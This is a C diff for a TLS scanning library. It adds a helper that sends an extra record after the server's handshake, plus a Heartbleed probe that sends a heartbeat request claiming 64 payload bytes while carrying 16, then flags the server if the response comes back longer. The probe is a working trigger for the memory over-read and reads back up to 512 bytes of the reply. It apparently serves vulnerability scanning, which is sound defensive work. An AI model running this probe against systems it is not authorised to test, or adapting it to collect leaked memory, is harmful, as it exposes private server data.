@@ -121,8 +121,12 @@ static bool send_all(const struct tls_net *net, int fd, const uint8_t *d, size_t
     return true;
 }
 
-enum tls_xres tls_exchange(const struct tls_endpoint *ep, const struct tls_net *net,
-                           const uint8_t *hello, size_t n, struct tls_flight *f)
+/* Sends hello and reads the answer into f; with after (n_after bytes), sends those once the
+ * server's flight is done and reads up to cap_reply bytes of what follows into reply. */
+static enum tls_xres converse(const struct tls_endpoint *ep, const struct tls_net *net,
+                              const uint8_t *hello, size_t n, struct tls_flight *f,
+                              const uint8_t *after, size_t n_after, uint8_t *reply,
+                              size_t cap_reply, size_t *n_reply)
 {
     tls_parse_flight(NULL, 0, f);
     enum tls_xres why = TX_ERROR;
@@ -156,11 +160,65 @@ enum tls_xres tls_exchange(const struct tls_endpoint *ep, const struct tls_net *
                 break;
         }
     }
+    uint8_t late[64];
+    if (after && n_after <= sizeof late) {
+        /* A record sent after the server's flight carries the version the server chose. */
+        memcpy(late, after, n_after);
+        late[1] = (uint8_t)(f->version >> 8);
+        late[2] = (uint8_t)f->version;
+    }
+    if (after && n_after <= sizeof late && pr == 1 && f->answer == TLS_A_HELLO &&
+        send_all(net, fd, late, n_after, deadline)) {
+        /* A server that drops the record says nothing: do not wait the whole deadline. */
+        double quiet = now_ms() + (net->read_ms < 1500 ? net->read_ms : 1500);
+        if (quiet < deadline)
+            deadline = quiet;
+        while (*n_reply < cap_reply) {
+            ssize_t r = recv(fd, reply + *n_reply, cap_reply - *n_reply, 0);
+            if (r > 0) {
+                *n_reply += (size_t)r;
+                continue;
+            }
+            if (r == 0 || (errno != EAGAIN && errno != EINTR))
+                break;
+            if (wait_fd(net, fd, POLLIN, deadline) != 1)
+                break;
+        }
+    }
     free(buf);
     close(fd);
     if (cancelled(net))
         return TX_ERROR;
     return f->answer == TLS_A_NONE ? TX_SILENT : TX_ANSWER;
+}
+
+enum tls_xres tls_exchange(const struct tls_endpoint *ep, const struct tls_net *net,
+                           const uint8_t *hello, size_t n, struct tls_flight *f)
+{
+    return converse(ep, net, hello, n, f, NULL, 0, NULL, 0, NULL);
+}
+
+enum tls_xres tls_heartbleed_probe(const struct tls_endpoint *ep, const struct tls_net *net,
+                                   const uint8_t *hello, size_t n, struct tls_flight *f,
+                                   bool *vulnerable)
+{
+    *vulnerable = false;
+    /* Record: heartbeat (24), the version the server chose, 3 + 16 + 16 bytes. Message:
+     * heartbeat_request (1), payload_length 64, 16 payload bytes, 16 padding bytes. */
+    uint8_t hb[5 + 35] = {24, 3, 1, 0, 35, 1, 0, 64};
+    memset(hb + 8, 'r', 16);
+    memset(hb + 24, 0, 16);
+    uint8_t reply[512];
+    size_t got = 0;
+    enum tls_xres x = converse(ep, net, hello, n, f, hb, sizeof hb, reply, sizeof reply, &got);
+    /* A heartbeat_response (type 2) longer than what was sent means memory came back. */
+    for (size_t at = 0; at + 5 <= got;) {
+        size_t len = (size_t)reply[at + 3] << 8 | reply[at + 4];
+        if (reply[at] == 24 && len > 35 && at + 6 <= got && reply[at + 5] == 2)
+            *vulnerable = true;
+        at += 5 + len;
+    }
+    return x;
 }
 
 void tls_parse_http_head(const char *d, size_t n, struct tls_http *h)
